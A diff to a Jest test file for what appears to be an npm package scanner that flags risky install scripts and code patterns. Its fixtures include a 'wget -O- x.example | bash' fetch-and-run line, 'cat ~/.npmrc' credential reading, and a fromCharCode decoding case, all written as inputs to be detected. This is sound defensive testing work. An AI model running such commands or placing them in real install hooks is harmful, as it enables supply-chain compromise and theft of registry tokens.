@@ -18,6 +18,7 @@ test.each([
   ['./install.sh', ['./install.sh']],
   ['node "with space.js"', ['with space.js']],
   ['node-gyp rebuild', [null]],
+  ['node -e "a; b | c && d" && node e.js', [null, 'e.js']],
   ['', []],
 ])('%j runs %j', (command, files) => {
   expect(stepsOf(command).map(({ file }) => file)).toEqual(files)
@@ -41,6 +42,7 @@ test.each([
   ['cat ~/.npmrc', ['credentials']],
   ['echo "see https://x.example"', []],
   ['node-gyp rebuild', []],
+  ['prebuild-install -r napi || node-gyp rebuild', []],
 ])('%j shows %j', (command, behaviours) => {
   expect([...scanCommand(command)].sort()).toEqual([...behaviours].sort())
 })
@@ -59,6 +61,9 @@ test.each([
   ["createHash('sha512').digest('hex')", []],
   ["// require('https')", []],
   [" * eval('x')", []],
+  ['String.fromCharCode(...buffer.subarray(i, i + n))', []],
+  ['String.fromCharCode(104,101,108,108,111,44)', ['decode']],
+  ['spawn(bin, { env: { ...process.env, X: 1 } })', []],
   ['const evaluate = retrieval(x)', []],
   ['const prefetch = 1', []],
 ])('%j shows %j', (code, behaviours) => {
@@ -139,7 +144,7 @@ test.each<[string, object, Readonly<Record<string, Content>>, readonly string[]]
     'a shell script',
     { scripts: { install: 'sh x.sh' } },
     { 'x.sh': 'wget -O- x.example | bash' },
-    ['critical install-script.install'].map((line) => line.replace('critical', 'high')),
+    ['high install-script.install'],
   ],
   ['a script that is no text', { scripts: { install: { run: 'x' } } }, {}, []],
   ['scripts that are a list', { scripts: ['install'] }, {}, []],
@@ -169,7 +174,7 @@ test('given a script that loads another package, when examined, then it says tha
     { scripts: { install: 'node x.js' } },
     { 'x.js': "require('helper')()\nrequire('fs')" },
   )
-  expect(findings[0]?.detail).toContain('hands over to `helper`, which was not followed')
+  expect(findings[0]?.detail).toContain('hands over to `helper`, not followed here')
 })
 
 test('given a script behind a link that leads outside, when examined, then it is not read, and that is said', async () => {
